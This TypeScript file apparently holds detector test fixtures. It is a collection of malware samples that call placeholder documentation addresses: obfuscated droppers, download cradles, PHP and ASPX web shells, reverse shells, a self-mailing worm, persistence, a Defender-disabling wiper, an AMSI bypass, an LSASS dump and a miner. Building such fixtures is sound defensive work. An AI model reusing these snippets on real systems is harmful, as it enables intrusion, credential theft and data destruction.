/** Obfuscated JavaScript as droppers write it: a payload hidden in char codes, decoded and evaluated. */
export function obfuscatedJs(): string {
  const payload = 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c iwr http://198.51.100.9/x.exe");';
  const codes = [...payload].map((c) => c.charCodeAt(0)).join(',');
  return `var _0x1=[${codes}];var _0x2='';for(var i=0;i<_0x1.length;i++){_0x2+=String.fromCharCode(_0x1[i]);}\nvar u=unescape('%65%76%61%6c');var a=atob('ZXZhbA==');eval(_0x2);\n`;
}

/** A page that loads another in an iframe nobody sees. */
export const HIDDEN_IFRAME_HTML = '<html><body><p>Welcome</p><iframe src="http://198.51.100.1/x" width="0" height="0" frameborder="0"></iframe></body></html>\n';

/** Scripts built for tests, one technique each; addresses are documentation ranges (RFC 5737) and nothing here runs. */
export const SCRIPTS = {
  psCradle: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')\n",
  vbsDropper: 'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://198.51.100.4/p.exe", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write x.responseBody\ns.SaveToFile "C:\\Users\\Public\\p.exe", 2\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\p.exe", 0\n',
  phpShell: '<?php @eval(base64_decode($_POST["k"])); ?>\n',
  aspxChopper: '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\n',
  aspxUpload: '<% If Request.Files.Count <> 0 Then Request.Files(0).SaveAs(Server.MapPath(Request("f"))) %>\n',
  bashReverse: '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n',
  pythonReverse: 'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("198.51.100.7",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nimport pty; pty.spawn("/bin/sh")\n',
  vbsMailer: 'Set o = CreateObject("Outlook.Application")\nSet m = o.GetNameSpace("MAPI")\nFor Each a In m.AddressLists\nSet i = o.CreateItem(0)\ni.Recipients.Add a.AddressEntries(1)\ni.Attachments.Add WScript.ScriptFullName\ni.Send\nNext\n',
  vbsPersist: 'Set f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile WScript.ScriptFullName, f.GetSpecialFolder(1) & "\\svc.vbs"\nSet w = CreateObject("WScript.Shell")\nw.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\svc", f.GetSpecialFolder(1) & "\\svc.vbs"\n',
  batWiper: '@echo off\nnet stop "WinDefend"\nnetsh firewall set opmode mode-disable\nvssadmin delete shadows /all /quiet\ndel /f /s /q "%systemroot%\\system32\\*"\n',
  lolbin: '@echo off\ncertutil -urlcache -split -f http://198.51.100.4/a.txt %TEMP%\\a.txt\ncertutil -decode %TEMP%\\a.txt %TEMP%\\a.exe\nstart %TEMP%\\a.exe\n',
  hiddenLaunch: 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell.exe -windowstyle hidden -exec bypass -file C:\\Users\\Public\\u.ps1", 0\n',
  beacon: '$w = New-Object System.Net.WebClient\n$w.DownloadString("https://198.51.100.4/p?id=" + $env:UserName + "-" + $env:UserDomain)\n',
  shellDropper: '#!/bin/sh\ncd /tmp\nwget http://198.51.100.4/bot -O /tmp/.bot\nchmod +x /tmp/.bot\n/tmp/.bot &\n(crontab -l; echo "*/5 * * * * /tmp/.bot") | crontab -\n',
  amsi: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
  lsassDump: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full\n',
  miner: '#!/bin/sh\npkill -f kworkerds\n(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -\n/tmp/.x/run -o stratum+tcp://198.51.100.3:3333 -u wallet --donate-level 1\n',
  ipPipe: '#!/bin/sh\ncurl -fsSL http://198.51.100.3:8080/i.sh | sh\n',
  phpCallable: '<?php $_GET["f"]($_GET["c"]); ?>\n',
  pythonExec: 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n',
  gatedLaunch: '@echo off\nnetstat -n | findstr 198.51.100.9:443\nif "%errorlevel%" EQU "1" (goto RUN) else (exit)\n:RUN\nping 198.51.100.9 -n 1\nstart C:\\ProgramData\\upd.vbs\n',
};

/** PowerShell's -EncodedCommand form: UTF-16LE base64 of the command. */
export function encodedCommand(command: string): string {
  return `powershell.exe -NoP -NonI -W Hidden -Enc ${Buffer.from(command, 'utf16le').toString('base64')}\n`;
}

/** A PE header is enough for the decoder to see an executable; a few bytes of one, encoded as a script would carry it. */
export function tinyPe(): Buffer {
  const pe = Buffer.alloc(0x200);
  pe.write('MZ', 0, 'latin1');
  pe.writeUInt32LE(0x80, 0x3c);
  pe.write('PE\0\0', 0x80, 'latin1');
  return pe;
}
